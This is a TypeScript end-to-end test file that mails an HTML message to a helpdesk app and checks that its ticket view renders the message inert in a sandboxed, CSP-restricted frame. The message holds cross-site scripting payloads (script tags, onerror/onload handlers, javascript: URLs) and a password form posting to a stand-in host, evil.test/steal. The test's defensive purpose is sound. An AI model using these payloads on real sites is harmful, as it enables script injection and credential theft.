/**
 * An HTML e-mail full of script payloads, received by the real SMTP listener of a real
 * `triage start`, shown in Chromium: its HTML renders (in a sandboxed frame), and nothing in
 * it runs — no dialog, no global set, in the page or in the frame.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import nodemailer from 'nodemailer';
import type { Browser, Frame } from 'playwright-core';
import { freePort } from '../helpers/triage-process.ts';
import { ADMIN, launchBrowser, newSession, screenshot, signIn, startE2eServer, type E2eServer } from './browser.ts';

/** What the payloads set when they run (evaluated in the page or a frame). */
const PWNED = () => (globalThis as any).__pwned as string | undefined;

/**
 * What PWNED reads in a frame, or undefined where nothing can run: a sandboxed frame without
 * allow-scripts cannot even be evaluated in — Playwright then fails or (sometimes) waits forever
 * for a script context that never comes, so the wait is bounded.
 */
async function pwnedIn(f: Frame): Promise<string | undefined> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const never = new Promise<undefined>((resolve) => { timer = setTimeout(() => resolve(undefined), 3_000); });
  try {
    return await Promise.race([f.evaluate(PWNED).catch(() => undefined), never]);
  } finally {
    clearTimeout(timer);
  }
}

const PAYLOAD = `
<p>Hello from <b>HTML</b> mail: the invoice is attached.</p>
<script>window.__pwned = 'script'; alert('script')</script>
<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')">
<svg onload="window.__pwned = 'svg'; alert('svg')"><circle r="4"></circle></svg>
<a href="javascript:window.__pwned='link';alert('link')">click me</a>
<iframe src="javascript:alert('frame')"></iframe>
<div style="background:url(javascript:alert('css'))" onmouseover="alert('hover')">Hover here</div>
<form action="https://evil.test/steal"><input name="password"><button>Send</button></form>`;

describe('HTML e-mail in the ticket view (Chromium)', () => {
  let server: E2eServer;
  let browser: Browser;
  let smtpPort: number;

  beforeAll(async () => {
    smtpPort = await freePort();
    [server, browser] = await Promise.all([startE2eServer({ SMTP_PORT: String(smtpPort), SMTP_HOST: '127.0.0.1' }), launchBrowser()]);
    const mailbox = await server.api.request('POST', '/api/v1/mailboxes', { name: 'Support', address: 'support@e2e.test', inbound: { type: 'smtp' } });
    expect(mailbox.status).toBe(201);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('renders the HTML inert: no script, event handler or javascript: URL runs', async () => {
    const info = await nodemailer.createTransport({ host: '127.0.0.1', port: smtpPort, secure: false, ignoreTLS: true }).sendMail({
      from: 'Mallory Customer <mallory@customer.test>', to: 'support@e2e.test', subject: 'Invoice quokka-7', text: 'Hello from text mail.', html: PAYLOAD,
    });
    expect(info.response).toMatch(/^250 /);

    const { page, dialogs, errors } = await newSession(browser);
    await signIn(page, server.url, ADMIN);
    const box = page.getByRole('searchbox', { name: 'Search tickets' });
    await box.fill('quokka');
    await box.press('Enter');
    await page.getByRole('link', { name: 'Invoice quokka-7' }).click();
    const frame = page.locator('iframe.email-frame');
    await frame.waitFor();
    // the frame has no permission at all, and its document forbids loading or running anything
    expect(await frame.getAttribute('sandbox')).toBe('');
    expect(await frame.getAttribute('srcdoc')).toContain("default-src 'none'");
    const inside = page.frameLocator('iframe.email-frame');
    await inside.getByText('Hello from').waitFor();
    expect(await inside.locator('b').textContent()).toBe('HTML');
    // hover and click what is left of the payloads
    await inside.getByText('Hover here').hover().catch(() => undefined);
    await inside.getByText('click me').click({ timeout: 2_000 }).catch(() => undefined);
    await screenshot(page, 'email-html');

    expect(dialogs).toEqual([]);
    expect(await page.evaluate(PWNED)).toBeUndefined();
    for (const f of page.frames()) expect(await pwnedIn(f)).toBeUndefined();
    expect(page.url()).toContain('/tickets/');
    expect(errors).toEqual([]);
  });

  it('keeps even unsanitized HTML inert: the frame is a second wall behind the sanitizer', async () => {
    const { page, dialogs } = await newSession(browser);
    await signIn(page, server.url, ADMIN);
    // hand the UI the raw payload as if the sanitizer had let everything through
    await page.route('**/api/v1/tickets/*', async (route) => {
      if (route.request().method() !== 'GET') return route.continue();
      const res = await route.fetch();
      const body = await res.json();
      for (const c of body.comments ?? []) if (c.email) c.email.bodyHtmlSanitized = PAYLOAD;
      await route.fulfill({ response: res, json: body });
    });
    const box = page.getByRole('searchbox', { name: 'Search tickets' });
    await box.fill('quokka');
    await box.press('Enter');
    await page.getByRole('link', { name: 'Invoice quokka-7' }).click();
    const inside = page.frameLocator('iframe.email-frame');
    await inside.getByText('Hover here').waitFor();
    expect(await page.locator('iframe.email-frame').getAttribute('srcdoc')).toContain('<script>');
    await inside.getByText('Hover here').hover().catch(() => undefined);
    await inside.getByText('click me').click({ timeout: 2_000 }).catch(() => undefined);
    await screenshot(page, 'email-html-unsanitized');
    expect(dialogs).toEqual([]);
    for (const f of page.frames()) expect(await pwnedIn(f)).toBeUndefined();
  });
});
